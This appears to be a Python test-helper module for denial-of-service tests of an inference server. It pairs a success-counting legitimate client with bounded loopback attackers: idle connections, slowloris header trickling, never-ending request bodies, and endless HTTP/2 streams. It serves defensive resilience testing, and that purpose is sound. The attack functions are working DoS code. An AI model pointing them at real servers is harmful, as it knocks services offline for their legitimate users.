"""Bounded attackers and a legitimate client for the DoS tests: each runs on loopback for a
fixed time from its own source address and stops by itself; the legitimate client counts its
successes so a test can state what share of real work got through during the attack."""

from __future__ import annotations

import http.client
import socket
import ssl
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field

from .load import BODY, unverified

ATTACKER = "127.0.0.66"
CLIENT = "127.0.0.1"


@dataclass
class Outcome:
    ok: int = 0
    failed: int = 0
    errors: Counter = field(default_factory=Counter)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def record(self, ok: bool, why: str = "") -> None:
        with self.lock:
            if ok:
                self.ok += 1
            else:
                self.failed += 1
                self.errors[why[:100]] += 1

    @property
    def success_rate(self) -> float:
        total = self.ok + self.failed
        return self.ok / total if total else 0.0


def legit_http(port: int, seconds: float, *, new_connection: bool = True, path: str = "/v2/models/add_sub/infer",
               body: bytes | None = BODY, interval: float = 0.05) -> Outcome:
    """A well-behaved client: one request at a time, a fresh TLS connection each time (so it
    also needs a free connection slot and a handshake), 10 s timeout per request."""
    out = Outcome()
    deadline = time.monotonic() + seconds
    conn: http.client.HTTPSConnection | None = None
    while time.monotonic() < deadline:
        try:
            if conn is None:
                conn = http.client.HTTPSConnection("127.0.0.1", port, context=unverified(), timeout=10,
                                                   source_address=(CLIENT, 0))
            headers = {"Content-Type": "application/json"} if body is not None else {}
            conn.request("POST" if body is not None else "GET", path, body=body, headers=headers)
            resp = conn.getresponse()
            resp.read()
            out.record(resp.status == 200, f"HTTP {resp.status}")
        except (OSError, http.client.HTTPException) as exc:
            out.record(False, f"{type(exc).__name__}: {exc}")
            conn = None
        if new_connection and conn is not None:
            conn.close()
            conn = None
        time.sleep(interval)
    if conn is not None:
        conn.close()
    return out


def in_background(target: Callable[[], object]) -> threading.Thread:
    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    return thread


def silent_connections(port: int, count: int, seconds: float, source: str = ATTACKER) -> dict[str, int]:
    """Keep *count* TCP connections open that never send a byte, re-opening each one the server
    closes. Returns how many were opened and how many the server closed."""
    import selectors

    deadline = time.monotonic() + seconds
    sel = selectors.DefaultSelector()
    stats = {"opened": 0, "closed_by_server": 0}

    def open_one() -> None:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2, source_address=(source, 0))
        except OSError:
            return
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
        stats["opened"] += 1

    for _ in range(count):
        open_one()
    while time.monotonic() < deadline:
        for key, _ in sel.select(timeout=0.2):
            sock = key.fileobj
            sel.unregister(sock)
            sock.close()  # type: ignore[union-attr]
            stats["closed_by_server"] += 1
            open_one()
    for key in list(sel.get_map().values()):
        key.fileobj.close()  # type: ignore[union-attr]
    return stats


def slowloris(port: int, connections: int, seconds: float, source: str = ATTACKER) -> None:
    """TLS connections that send a request's headers one byte at a time, forever."""
    deadline = time.monotonic() + seconds
    tls: list[ssl.SSLSocket] = []
    request = b"GET /v2/health/ready HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 10_000
    offsets: list[int] = []
    while time.monotonic() < deadline:
        while len(tls) < connections and time.monotonic() < deadline:
            try:
                raw = socket.create_connection(("127.0.0.1", port), timeout=2, source_address=(source, 0))
                tls.append(unverified().wrap_socket(raw))
                offsets.append(0)
            except OSError:
                break
        for i, s in enumerate(list(tls)):
            try:
                s.send(request[offsets[i] % len(request):][:1])
                offsets[i] += 1
            except OSError:
                tls[i] = None  # type: ignore[call-overload]
        keep = [(s, o) for s, o in zip(tls, offsets, strict=True) if s is not None]
        tls, offsets = [s for s, _ in keep], [o for _, o in keep]
        time.sleep(0.5)
    for s in tls:
        s.close()


def trickled_bodies(port: int, connections: int, seconds: float, path: str = "/v2/models/add_sub/infer",
                    source: str = ATTACKER, chunked: bool = False, chunk: bytes = b" ", pause: float = 0.5) -> None:
    """Requests whose body never ends: a declared Content-Length trickled a byte at a time, or
    (chunked=True) an endless chunked body sent as fast as the server takes it."""
    deadline = time.monotonic() + seconds
    head = (f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n").encode()
    head += b"Transfer-Encoding: chunked\r\n\r\n" if chunked else b"Content-Length: 1000000\r\n\r\n"
    frame = (b"%x\r\n" % len(chunk)) + chunk + b"\r\n" if chunked else chunk

    def one() -> None:
        while time.monotonic() < deadline:
            try:
                raw = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(source, 0))
                with unverified().wrap_socket(raw) as s:
                    s.sendall(head)
                    while time.monotonic() < deadline:
                        s.sendall(frame)
                        if pause:
                            time.sleep(pause)
            except OSError:
                time.sleep(0.05)

    threads = [in_background(one) for _ in range(connections)]
    for t in threads:
        t.join(seconds + 15)


def endless_h2_streams(port: int, streams: int, seconds: float, path: str = "/v2/models/add_sub/infer",
                       source: str = ATTACKER, content_length: int | None = None) -> dict[str, int]:
    """One HTTP/2 connection with *streams* request bodies that never end (or end only at a
    large declared *content_length*), sent as fast as flow control allows; every stream the
    server resets or answers is replaced."""
    import h2.config
    import h2.connection
    import h2.events

    deadline = time.monotonic() + seconds
    stats = {"connections": 0, "streams": 0, "reset_by_server": 0, "bytes": 0}
    chunk = b" " * 16384
    while time.monotonic() < deadline:
        ctx = unverified()
        ctx.set_alpn_protocols(["h2"])
        try:
            raw = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(source, 0))
            sock = ctx.wrap_socket(raw)
        except OSError:
            time.sleep(0.1)
            continue
        stats["connections"] += 1
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        open_streams: set[int] = set()
        sent: dict[int, int] = {}
        cap = content_length - 1 if content_length is not None else 1 << 62  # never complete the body
        headers = [(":method", "POST"), (":path", path), (":scheme", "https"), (":authority", "x"),
                   ("content-type", "application/json")]
        if content_length is not None:
            headers.append(("content-length", str(content_length)))
        try:
            sock.sendall(conn.data_to_send())
            sock.settimeout(0.01)
            while time.monotonic() < deadline:
                while len(open_streams) < streams:
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers)
                    open_streams.add(sid)
                    stats["streams"] += 1
                for sid in list(open_streams):
                    window = min(conn.local_flow_control_window(sid), len(chunk), cap - sent.get(sid, 0))
                    if window > 0:
                        conn.send_data(sid, chunk[:window])
                        sent[sid] = sent.get(sid, 0) + window
                        stats["bytes"] += window
                sock.sendall(conn.data_to_send())
                try:
                    data = sock.recv(65536)
                except (TimeoutError, ssl.SSLWantReadError):
                    continue
                if not data:
                    break
                for event in conn.receive_data(data):
                    if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded, h2.events.ResponseReceived)):
                        if event.stream_id in open_streams:
                            open_streams.discard(event.stream_id)
                            stats["reset_by_server"] += 1
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        raise ConnectionError("GOAWAY")
                sock.sendall(conn.data_to_send())
        except (OSError, ConnectionError, h2.exceptions.ProtocolError):
            pass
        finally:
            sock.close()
    return stats
